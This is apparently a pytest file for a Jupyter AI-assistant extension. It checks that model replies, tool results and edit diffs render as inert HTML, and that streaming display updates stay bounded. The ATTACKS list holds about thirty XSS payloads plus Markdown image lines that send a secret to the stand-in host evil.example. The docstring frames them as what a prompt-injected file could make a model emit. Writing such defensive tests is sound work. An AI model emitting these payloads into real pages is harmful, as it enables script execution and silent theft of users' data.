"""Model text reaches the page inert: Markdown rendered with raw HTML off and sanitized, updates bounded.

The attacks are the ones a prompt-injected file or an honest model repeating a hostile file name would
bring: event handlers, scripts, frames, ``</details>`` breakouts, ``javascript:`` links, and Markdown
images whose address carries data out with no click. The real browser checks (no alert, no request,
no script) are in tests/test_browser.py.
"""

from __future__ import annotations

import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from IPython.core.interactiveshell import InteractiveShell
from IPython.testing.globalipapp import start_ipython
from IPython.utils.capture import capture_output

from twinny_magics.conversation import ToolCall, ToolResult
from twinny_magics.display import view as view_module
from twinny_magics.display.items import CallItem, EditItem, NoticeItem, TextItem
from twinny_magics.display.markdown import MARKDOWN_MAX_CHARS, TAGS, markdown_html
from twinny_magics.display.view import ReplyView
from twinny_magics.events import Reply, ReplyFinished, TextDelta

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "</details><img src=x onerror=alert(1)>",
    "</div></pre><script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "![badge](https://evil.example/?k=SECRET)",
    "![](http://evil.example/pixel.png)",
    '![x](https://evil.example/a.png "title")',
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "<a href='javascript:alert(1)'>x</a>",
    "<object data=x></object><embed src=x>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=a></form>",
    "<base href=https://evil.example/>",
    '<div style="background:url(https://evil.example)">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<img src=x onerror=alert(1)>.md",
    "&lt;img src=x onerror=alert(1)&gt;",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | 2 |",
    '<p onclick="alert(1)">x</p>',
    '[x](https://ok.example "title" onmouseover=alert(1))',
    "<!-- x --><img src=x onerror=alert(1)>",
]

LIVE_TAGS = {"img", "script", "iframe", "svg", "object", "embed", "style", "link", "meta", "form", "base"}


class Audit(HTMLParser):
    """Every tag, attribute and URL in a piece of HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def audit(html: str) -> Audit:
    parser = Audit()
    parser.feed(html)
    parser.close()
    return parser


OWN_TAGS = {"b", "div", "details", "summary"}  # what our own pieces are built of, around escaped text


def assert_inert(html: str, allowed: frozenset[str] | set[str] = TAGS) -> None:
    found = audit(html)
    assert set(found.tags) <= allowed, set(found.tags) - allowed
    assert not set(found.tags) & LIVE_TAGS
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name in {"href", "title", "style", "start", "target", "rel"}, (tag, name)
        if name == "href":
            assert value.lower().startswith(("http://", "https://", "mailto:")), value
        if name == "style":
            assert "url(" not in value.lower(), value
            assert "expression" not in value.lower(), value


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_markdown_renders_to_inert_html(attack: str) -> None:
    html = markdown_html(f"Here is the answer.\n\n{attack}\n\nDone.")
    assert_inert(html)
    assert "Done." in html


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_stays_inert_in_every_piece_that_shows_it(attack: str) -> None:
    call = ToolCall("read_file", {"path": attack}, "c1")
    pieces = [
        TextItem(1, attack),
        CallItem("1.0", call, ToolResult(call, attack, 1)),
        NoticeItem("error", attack),
    ]
    for piece in pieces:
        bundle = piece._repr_mimebundle_()
        assert "text/markdown" not in bundle
        assert_inert(bundle["text/html"], TAGS | OWN_TAGS)


def test_a_markdown_image_is_shown_as_its_address_and_never_loaded() -> None:
    html = markdown_html("Status: ![build](https://evil.example/badge?key=sk-123)")
    assert "<img" not in html
    assert "[image: build — https://evil.example/badge?key=sk-123]" in html


def test_safe_links_stay_clickable_and_open_apart_from_the_page() -> None:
    html = markdown_html("See [the docs](https://docs.example/a?b=1) or <https://x.example>.")
    found = audit(html)
    links = [(name, value) for tag, name, value in found.attributes if tag == "a"]
    assert ("href", "https://docs.example/a?b=1") in links
    assert ("rel", "noopener noreferrer") in links
    assert ("target", "_blank") in links


def test_a_link_that_may_not_be_clickable_is_kept_as_text() -> None:
    html = markdown_html("Open [app.py](src/app.py) or [x](javascript:alert(1)).")
    assert "<a " not in html
    assert "[app.py](src/app.py)" in html
    assert "[x](javascript:alert(1))" in html


def test_markdown_formatting_still_renders() -> None:
    html = markdown_html(
        "# Title\n\n**bold** _it_ ~~gone~~ `code`\n\n- a\n- b\n\n| x | y |\n|--:|---|\n| 1 | 2 |"
    )
    for tag in (
        "<h1>",
        "<strong>",
        "<em>",
        "<s>",
        "<code>",
        "<li>",
        "<table>",
        '<td style="text-align:right">',
    ):
        assert tag in html


def test_a_very_long_text_is_shown_escaped_without_markdown() -> None:
    text = "<img src=x onerror=alert(1)>" + "[" * MARKDOWN_MAX_CHARS
    html = markdown_html(text)
    assert html.startswith('<div style="white-space:pre-wrap">&lt;img')
    assert_inert(html, TAGS | OWN_TAGS)


pieces = st.sampled_from(
    [*ATTACKS, "**", "_", "`", "```", "\n", "\n\n", "[", "]", "(", ")", "<", ">", "!", "|", "&", "#", "*"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(pieces, st.text(max_size=12)), max_size=25))
def test_any_mix_of_markdown_and_html_renders_inert(parts: list[str]) -> None:
    assert_inert(markdown_html("".join(parts)))


# -- live updates --------------------------------------------------------------------------------------


@pytest.fixture
def shell() -> InteractiveShell:
    """IPython's test shell (display() needs a shell)."""
    return start_ipython() or InteractiveShell.instance()


def _reply(text: str) -> Reply:
    return Reply(question="q", text=text)


def test_a_never_ending_answer_costs_display_traffic_linear_in_its_length(
    shell: InteractiveShell, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Every delta is allowed to refresh (no time throttle): only the traffic bound may hold updates back.
    monkeypatch.setattr(view_module, "TEXT_REFRESH_SECONDS", 0.0)
    chunk = "word " * 200  # 1,000 characters a delta
    deltas = 3_000  # 3 MB of answer; updating every delta would send ~4.5 GB
    with capture_output() as captured:
        view = ReplyView("q")
        view.start()
        started = time.monotonic()
        for _ in range(deltas):
            view.handle(TextDelta(1, chunk))
        view.handle(ReplyFinished(_reply(chunk * deltas)))
        elapsed = time.monotonic() - started
    total = len(chunk) * deltas
    sent = sum(
        len(o.data.get("text/plain", ""))
        for o in captured.outputs
        if o.data.get("text/plain", "").startswith("word")
    )
    assert sent <= 5 * total + view_module.TEXT_TRAFFIC_SLACK
    assert view.failures == []
    assert elapsed < 60  # generous: the point is that it ends, the bound above is the measure


def test_an_ordinary_answer_still_streams_in_many_updates(
    shell: InteractiveShell, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(view_module, "TEXT_REFRESH_SECONDS", 0.0)
    with capture_output() as captured:
        view = ReplyView("q")
        view.start()
        for _ in range(200):
            view.handle(TextDelta(1, "some words "))
        view.handle(ReplyFinished(_reply("some words " * 200)))
    updates = [o for o in captured.outputs if o.data.get("text/plain", "").startswith("some")]
    assert len(updates) >= 180  # nearly every delta (the slack ends only past ~220k characters sent)


def test_an_edit_with_a_hostile_path_and_diff_is_escaped(tmp_path: Path) -> None:
    class Edit:
        path = "<img src=x onerror=alert(1)>.py"
        creates = True
        status = "pending"
        diff = "+++ <script>alert(1)</script>\n+<iframe src=javascript:alert(1)>"

    html: Any = EditItem(Edit()).html()
    for tag in ("<img", "<script", "<iframe"):
        assert tag not in html
